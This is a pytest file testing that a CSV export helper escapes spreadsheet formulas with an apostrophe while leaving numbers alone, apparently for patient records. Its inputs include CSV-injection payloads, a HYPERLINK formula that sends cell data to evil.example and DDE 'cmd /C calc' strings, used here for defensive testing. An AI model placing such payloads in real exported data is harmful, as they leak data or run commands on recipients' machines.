"""Every CSV cell a spreadsheet could run as a formula is written as text (OWASP CSV
injection); numbers stay numbers (issue 10, part 7)."""

import csv
import io

import pytest

from assessments.csv_export import csv_response, safe_cell


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("https://evil.example","Jane")',
            '\'=HYPERLINK("https://evil.example","Jane")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("Jane Doe", "Jane Doe"),
        ("O'Brien-Smith", "O'Brien-Smith"),
        ("", ""),
        (None, ""),
    ],
)
def test_formula_cells_get_an_apostrophe(cell, written):
    assert safe_cell(cell) == written


@pytest.mark.parametrize("number", ["-3.5", "+2", "-0.25", "12", "-7", -3.5, 0, ".5"])
def test_numbers_stay_numbers(number):
    assert safe_cell(number) == str(number)


def test_a_patient_named_as_a_formula_comes_out_as_text():
    response = csv_response(
        filename="patients.csv",
        rows=[
            ["Name", "Change"],
            ['=HYPERLINK("https://evil.example/?"&A1,"Doe")', -3.5],
        ],
    )

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="patients.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows == [
        ["Name", "Change"],
        ['\'=HYPERLINK("https://evil.example/?"&A1,"Doe")', "-3.5"],
    ]
